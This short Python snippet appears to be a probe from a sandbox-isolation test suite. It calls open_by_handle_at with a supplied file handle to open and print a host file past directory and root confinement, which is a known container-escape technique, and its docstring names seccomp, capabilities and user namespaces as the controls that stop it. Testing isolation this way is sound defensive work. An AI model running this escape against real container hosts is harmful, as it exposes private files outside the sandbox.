# SPDX-License-Identifier: Apache-2.0
"""Open a file of the host by its number on the disk, past every directory and root.

class: D4
effect: the content of the caller's private file is read
as: root
stopped-by-root: seccomp, capabilities, user-ns
"""
handle = bytes.fromhex(T["handle"])
place = os.open(os.__file__, os.O_RDONLY)
fd = sysc("open_by_handle_at", place, handle, os.O_RDONLY)
print(fd)
if fd >= 0:
    print(os.read(fd, 100))
